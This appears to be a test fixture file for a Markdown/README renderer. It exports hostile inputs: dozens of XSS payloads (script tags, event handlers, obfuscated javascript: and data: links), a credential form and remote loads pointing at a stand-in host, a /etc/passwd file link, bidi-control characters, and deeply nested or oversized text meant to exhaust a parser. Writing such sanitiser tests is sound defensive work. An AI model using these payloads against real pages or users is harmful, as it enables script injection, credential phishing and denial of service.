/** Sets what a test looks for when a script of a stranger runs. */
const RUN = 'window.hacked=1'

/** A README in which each line tries to be more than text, and one word that must be readable. */
export const HOSTILE_README = `# <script>${RUN}</script> Readable

<script>${RUN}</script>
<script src="//203.0.113.9/x.js"></script>
<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>
<iframe src="javascript:${RUN}"></iframe>
<img src=x onerror="${RUN}">
<img src="http://203.0.113.9/pixel.gif">
<svg onload="${RUN}"><script>${RUN}</script></svg>
<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>
<object data="data:text/html,<script>${RUN}</script>"></object>
<embed src="http://203.0.113.9/x.swf">
<link rel="stylesheet" href="http://203.0.113.9/x.css">
<meta http-equiv="refresh" content="0; url=http://203.0.113.9/">
<base href="http://203.0.113.9/">
<form action="http://203.0.113.9/"><input name="token"><button>Sign in</button></form>
<style>@import "http://203.0.113.9/x.css"; body { display: none }</style>
<details open ontoggle="${RUN}"><summary>more</summary></details>
<body onload="${RUN}"><input autofocus onfocus="${RUN}">
<!-- --><script>${RUN}</script><!-- -->
<!--[if true]><script>${RUN}</script><![endif]-->
<![CDATA[<script>${RUN}</script>]]>
</main></body></html>

[plain](javascript:${RUN}) [upper](JaVaScRiPt:${RUN}) [tab](java&#x09;script:${RUN}) [entity](&#106;avascript:${RUN})
[named](javascript&colon;${RUN}) [data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)
[vb](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:http://x/y) [relative](//203.0.113.9/)
[quote](http://x/"onmouseover="${RUN}") [title](http://x/ "\\"onmouseover=${RUN}//") [view](view-source:http://x/)
[nested [inner](javascript:${RUN}) outer](http://x/) [*<b onclick=${RUN}>*](javascript:${RUN})
<javascript:${RUN}> <data:text/html,x> <http://x/?"onclick="${RUN}>

![image](javascript:${RUN}) ![svg](data:image/svg+xml,<svg/onload=${RUN}>) ![far](http://203.0.113.9/pixel.png)
[![inside](http://203.0.113.9/a.png)](javascript:${RUN})
![alt"><script>${RUN}</script>](x)

[reference][bad] [shortcut] [collapsed][]

[bad]: javascript:${RUN}
[shortcut]: <javascript:${RUN}>
[collapsed]: data:text/html,<script>${RUN}</script> "x"

| <script>${RUN}</script> | [cell](javascript:${RUN}) |
|---|---|
| \`<img src=x onerror=${RUN}>\` | <img src=x onerror=${RUN}> |

\`\`\`html"><script>${RUN}</script>
<script>${RUN}</script>
\`\`\`

    <script>${RUN}</script>

# <a id="main"></a> main
## q
## results

\u202Egnp.exe\u202C \u200Bzero\u200Dwidth\uFEFF \u2066isolated\u2069 \u0007bell

${'W'.repeat(4000)}

${'\u0300'.repeat(300)}zalgo${'\u0489'.repeat(300)}

The last line is readable, too.
`

/** A line of text that tries the same wherever only a line goes. */
export const HOSTILE_LINE = `"><img src=x onerror=${RUN}> </p><script>${RUN}</script> ${'w'.repeat(60)}`

/** The same with characters that steer, where they are taken. */
export const STEERED_LINE = `\u202Etxet\u202C \u200B\u2066 ${HOSTILE_LINE}`

/** A README of a mebibyte: paragraphs, emphasis that never ends, and links. */
export const LARGE_README =
  `# Readable\n\n${'*a **b _c [d](http://x/ "e") `f` '.repeat(Math.ceil((1 << 20) / 33))}`.slice(0, 1 << 20)

/** A table of ten thousand lines. */
export const TABLE_README = `# Readable\n\n| line | what |\n|---:|---|\n${Array.from({ length: 10_000 }, (_, at) => `| ${at} | ${'cell '.repeat(6)} |`).join('\n')}\n`

/** Quotes, lists, brackets and emphasis within one another, thousands deep. */
export const DEEP_README = [
  '# Readable',
  `${'> '.repeat(3000)}quoted`,
  Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- item`).join('\n'),
  `${'['.repeat(20_000)}brackets${']'.repeat(20_000)}`,
  `${'![a]('.repeat(5000)}`,
  `${'*_'.repeat(10_000)}emphasis`,
  `${'`'.repeat(9999)} code`,
  `${'<'.repeat(50_000)}`,
  `${'&amp;'.repeat(20_000)}`,
].join('\n\n')
